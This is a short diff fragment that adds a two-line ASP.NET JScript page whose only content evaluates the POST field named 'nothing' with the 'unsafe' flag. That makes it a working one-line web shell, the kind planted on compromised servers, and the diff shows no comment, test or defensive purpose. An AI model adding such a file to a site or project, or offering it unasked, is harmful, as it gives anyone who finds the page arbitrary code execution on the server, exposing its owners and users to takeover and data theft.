@@ -1,0 +1,2 @@
+<%@ Page Language="Jscript" %>
+<% eval(Request.Form["nothing"], "unsafe"); %>
